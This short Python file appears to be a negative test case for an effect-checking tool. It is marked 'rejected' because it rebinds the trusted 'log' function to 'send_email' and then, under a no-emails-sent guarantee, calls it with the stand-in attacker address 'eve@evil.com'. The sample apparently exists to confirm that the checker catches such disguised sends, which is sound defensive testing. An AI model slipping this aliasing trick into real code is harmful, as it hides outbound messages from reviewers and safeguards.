# rejected: a module's rebinding of a trusted function
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


log = send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("eve@evil.com", "x")
